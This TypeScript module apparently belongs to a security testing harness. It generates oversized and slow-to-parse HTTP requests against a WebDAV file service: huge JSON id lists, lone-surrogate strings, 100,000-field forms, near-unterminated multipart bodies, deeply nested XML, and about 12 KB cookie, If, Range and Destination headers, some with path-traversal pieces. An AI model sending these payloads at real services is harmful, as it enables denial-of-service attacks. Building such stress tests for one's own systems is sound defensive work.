import type { Target } from './attack.js';
import { bodyOf, largest, type Body } from './hostile-requests.js';

/** A request that takes as much work as it can. */
export interface LongRequest {
  readonly name: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Body | null;
}

const MIB = 1024 * 1024;
const MANY_IDS = 99_000;
const MANY_FIELDS = 100_000;
/** What the service reads of a form. */
const MOST_FIELDS = 19_000;
/** Below the limit of the server for all headers together. */
const HEADER_BYTES = 12_000;
/** The most that XML of WebDAV may have, and what was once allowed. */
const XML_BYTES = [130_000, MIB - 1_000];
const XML_PIECES = 1_900;

/** Bodies of each kind that a route reads; without one, its query. */
export function longestRequests(target: Target): readonly LongRequest[] {
  const [, usual] = bodyOf(target);
  const documents =
    target.document !== null
      ? xmlDocuments(target.document)
      : usual === null
        ? []
        : [...jsonDocuments(target), ...forms(target)];
  const most = largest(target, MIB).map(([path, body], n) => ({
    name: `the most, ${n}`,
    path,
    body,
  }));
  return [
    ...documents.map(([name, body]) => ({ name, path: target.path, headers: {}, body })),
    ...most.map((one) => ({ ...one, headers: {} })),
  ];
}

/** A usual request with headers that take long to read. */
export function withHostileHeaders(target: Target): readonly LongRequest[] {
  const [path, body] = bodyOf(target);
  return HEADERS.map(([name, headers]) => ({ name, path, headers, body }));
}

const jsonBody = (text: string): Body => ({
  type: 'application/json',
  bytes: Buffer.from(text),
});

/** Each list of the route with what fits; and what its fields do not name. */
function jsonDocuments({ fields }: Target): (readonly [string, Body])[] {
  const isList = (name: string) => Array.isArray(fields[name]);
  const single = Object.entries(fields).filter(([name]) => !isList(name));
  const list = Object.keys(fields).find(isList);
  const withLists = (one: (n: number) => unknown, count: number) =>
    JSON.stringify({
      ...Object.fromEntries(single),
      [list ?? 'list']: Array.from({ length: count }, (_, n) => one(n)),
    });
  const hash = 'd41d8cd98f00b204e9800998ecf8427e';
  const lists: (readonly [string, string])[] = [
    ['99,000 ids', withLists((n) => n + 1, MANY_IDS)],
    // Refused.
    ['140,000 ids', withLists((n) => n + 1, 140_000)],
    ['99,000 ids as text', withLists((n) => String(n + 1), MANY_IDS)],
    ['33,000 pairs', withLists((n) => ({ feedId: n, guidHash: hash }), 33_000)],
    ['99,000 of a wrong type', withLists(() => null, MANY_IDS)],
    ['80,000 wrong pairs', withLists((n) => ({ feedId: 'x', guidHash: n }), 80_000)],
  ];
  const others: (readonly [string, string])[] = [
    ['120,000 names', `{${Array.from({ length: 120_000 }, (_, n) => `"n${n}":1`).join()}}`],
    ['4 MiB of half characters', `{"x":"${'\\ud800'.repeat(690_000)}"}`],
    ['4 MiB in a text', JSON.stringify({ ...fields, x: 'é<'.repeat(1.3 * MIB) })],
  ];
  return [...(list === undefined ? [] : lists), ...others].map(([name, text]) => [
    name,
    jsonBody(text),
  ]);
}

function forms({ fields }: Target): (readonly [string, Body])[] {
  const type = 'application/x-www-form-urlencoded';
  const list = Object.keys(fields).find((name) => Array.isArray(fields[name])) ?? 'i';
  const form = (count: number, one: (n: number) => string): Body => ({
    type,
    bytes: Buffer.from(Array.from({ length: count }, (_, n) => one(n)).join('&')),
  });
  const long = `--limit\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\n`;
  return [
    ['a form of 100,000 fields', form(MANY_FIELDS, (n) => `i=${n}`)],
    ['a form of 19,000 ids', form(MOST_FIELDS, (n) => `${list}[]=${n}&i=${n}`.slice(0, 60))],
    ['a form of 19,000 names', form(MOST_FIELDS, (n) => `a${n}[b][c][d][e]=${n}`)],
    ['a form of 1 MB', form(MOST_FIELDS, (n) => `x[${n}]=${'%C3%A9'.repeat(8)}`)],
    [
      'a multipart form of 5 MB that nearly ends',
      {
        type: 'multipart/form-data; boundary=limit',
        bytes: Buffer.from(`${long}${'\r\n--limi'.repeat(620_000)}\r\n--limit--\r\n`),
      },
    ],
    [
      'a multipart form of 10,000 parts',
      {
        type: 'multipart/form-data; boundary=limit',
        bytes: Buffer.from(
          `${`${long.replace('; filename="b"', '')}x\r\n`.repeat(10_000)}--limit--`,
        ),
      },
    ],
  ];
}

const DECLARED = 'xmlns:d="DAV:" xmlns:x="http://attacker.example/"';

/** In the place of properties or conditions of the document. */
function xmlDocuments(document: string): (readonly [string, Body])[] {
  const filled = (most: number, piece: (n: number) => string, marks = Infinity) => {
    const pieces: string[] = [];
    let bytes = document.length;
    for (let n = 0; n < marks; n += 1) {
      const one = piece(n);
      bytes += Buffer.byteLength(one);
      if (bytes > most) {
        break;
      }
      pieces.push(one);
    }
    const inner = pieces.join('');
    return /<\/d:prop>/.test(document)
      ? document.replaceAll('</d:prop>', (end) => `${inner}${end}`).slice(0, MIB - 1)
      : document.replace('</d:lockinfo>', `<d:owner>${inner}</d:owner></d:lockinfo>`);
  };
  const kinds: (readonly [string, (n: number) => string])[] = [
    ['equal elements', () => '<a/>'],
    ['similar elements', (n) => `<x:a${n}/>`],
    ['elements with long names', (n) => `<x:${'a'.repeat(50)}${n}/>`],
    ['elements with namespaces', (n) => `<y xmlns="urn:${n}">v</y>`],
    ['nested elements', () => `${'<x:a>'.repeat(40)}${'</x:a>'.repeat(40)}`],
    ['attributes', (n) => `<a b="${n}" c="" d="" e="" f=""/>`],
    ['conditions', () => '<d:not><d:is-collection/></d:not>'],
    ['text with entities', () => '&lt;&#65;&amp;'],
    ['comments', () => '<!-- -->'],
    ['sections', () => '<![CDATA[<a/>]]>'],
    ['open elements', () => '<x:a>'],
    ['closed elements', () => '</x:a>'],
    ['spaces', () => ' '.repeat(64)],
  ];
  return [
    ...XML_BYTES.flatMap((most) =>
      kinds.map(([name, piece]) => [`${most} bytes of ${name}`, filled(most, piece)] as const),
    ),
    ...kinds.map(
      ([name, piece]) =>
        [`${XML_PIECES} ${name}`, filled(XML_BYTES[0] ?? 0, piece, XML_PIECES / 2)] as const,
    ),
    [
      '1,900 attributes',
      document.replace(
        DECLARED,
        `${DECLARED} ${Array.from({ length: XML_PIECES }, (_, n) => `a${n}=""`).join(' ')}`,
      ),
    ] as const,
  ].map(([name, text]) => [name, { type: 'text/xml', bytes: Buffer.from(text) }] as const);
}

const repeated = (piece: string) => piece.repeat(HEADER_BYTES / piece.length);

/** Headers that the service looks at, each with what takes long to read. */
const HEADERS: (readonly [string, Readonly<Record<string, string>>])[] = (
  [
    ['cookie', ['a=b; ', '=', '; ', ' ', 'gatefold_session=x; ']],
    ['accept-language', ['a,', 'de-DE;q=0.1,', ';q=', '-', ' ']],
    ['accept', ['a/b,', '*/*;q=0.', ',', 'application/json;', ' ']],
    ['if', ['(<a>)', '(Not <a>)', '(["a"])', '<', '(', '</remote.php/webdav/a>(<x>)', 'Not ']],
    ['if-none-match', ['"a",', '"', 'W/', ' ']],
    ['if-match', ['"a",', '"']],
    ['range', ['bytes=0-1,', '0-0,', '-']],
    ['forwarded', ['for=a,', ';', '"']],
    ['x-forwarded-for', ['1.1.1.1,', ',', '::']],
    ['origin', ['http://a', ':']],
    ['user-agent', ['Mozilla/5.0 (', '(', 'a ']],
    ['destination', ['/a', '%2f', '..%2f', 'http://']],
    ['oc-checksum', ['MD5:a ', ':', ' ']],
    ['lock-token', ['<', '<a>']],
    ['content-type', ['a/b;charset=', ';charset=', ' ']],
  ] as const
).flatMap(([header, pieces]) =>
  pieces.map(
    (piece) => [`${header} of ${JSON.stringify(piece)}`, { [header]: repeated(piece) }] as const,
  ),
);
